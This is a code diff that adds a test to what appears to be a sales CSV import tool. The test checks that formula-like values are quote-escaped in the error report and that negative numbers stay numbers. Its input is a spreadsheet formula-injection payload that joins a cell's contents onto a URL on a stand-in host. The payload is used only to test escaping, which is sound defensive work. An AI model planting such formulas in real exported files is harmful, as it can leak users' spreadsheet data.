@@ -198,3 +198,21 @@ def test_dry_run_validates_and_writes_nothing(company: Company) -> None:
     assert batch.status == ImportBatch.Status.VALIDATED
     assert batch.rows_total == 1
     assert not SalesLine.objects.exists()
+
+
+def test_the_error_report_quotes_a_formula_and_keeps_a_negative_number_as_a_number(
+    company: Company,
+) -> None:
+    payload = '"=HYPERLINK(""http://x""&A1,""点击"")"'  # as a CSV file quotes it
+    batch = run_import(
+        csv_bytes(
+            GOOD,
+            f"2026-03-02,SO2,1,CU-BJ,{payload},REP,1,10,5",
+            "2026-03-02,SO3,1,-5,P-A,REP,-2,-20,5",
+        )
+    )
+    with default_storage.open(batch.error_report, "rb") as fh:
+        report = pl.read_csv(fh.read()[3:], infer_schema=False)
+    values = dict(zip(report["列"], report["值"], strict=True))
+    assert values["产品编码"] == "'" + '=HYPERLINK("http://x"&A1,"点击")'
+    assert values["客户编码"] == "-5"  # an unknown code that is a number stays a number
